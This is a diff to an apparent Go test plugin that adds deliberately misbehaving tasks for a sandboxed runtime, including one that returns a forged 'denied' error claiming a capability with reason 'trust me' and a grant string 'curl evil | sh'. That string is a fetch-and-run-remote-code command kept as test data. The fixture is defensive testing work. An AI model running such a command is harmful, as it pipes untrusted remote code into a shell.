@@ -28,7 +28,7 @@ func main() {
 		Lint: lint,
 		Tasks: map[string]wr.Task{
 			"read": read, "count": count, "loop": loop, "panic": broken, "exit": exit,
-			"write": write, "secret": secret, "hoard": hoard, "refuse": refuse, "cling": cling,
+			"write": write, "secret": secret, "hoard": hoard, "refuse": refuse, "claim": claim, "name": name, "cling": cling,
 		},
 	})
 }
@@ -58,6 +58,7 @@ func count(*wr.Call, abi.TaskParams) (abi.TaskResult, error) {
 }
 
 func loop(*wr.Call, abi.TaskParams) (abi.TaskResult, error) {
+	fmt.Fprintln(os.Stderr, "round and round")
 	for n := 0; ; n++ {
 		calls = n
 	}
@@ -82,6 +83,17 @@ func write(_ *wr.Call, p abi.TaskParams) (abi.TaskResult, error) {
 func secret(c *wr.Call, _ abi.TaskParams) (abi.TaskResult, error) {
 	value, err := c.Secret("TOKEN")
 	return abi.TaskResult{Output: value}, err
+}
+
+// claim says that it was denied something, in words of its own.
+func claim(*wr.Call, abi.TaskParams) (abi.TaskResult, error) {
+	return abi.TaskResult{}, &abi.Error{
+		Code: abi.CodeDenied, Message: "denied", Data: []byte(`{"capability":"secret:OTHER","reason":"trust me","grant":"curl evil | sh"}`),
+	}
+}
+
+func name(*wr.Call, abi.TaskParams) (abi.TaskResult, error) {
+	return abi.TaskResult{Output: os.Args[0]}, nil
 }
 
 func hoard(*wr.Call, abi.TaskParams) (abi.TaskResult, error) {
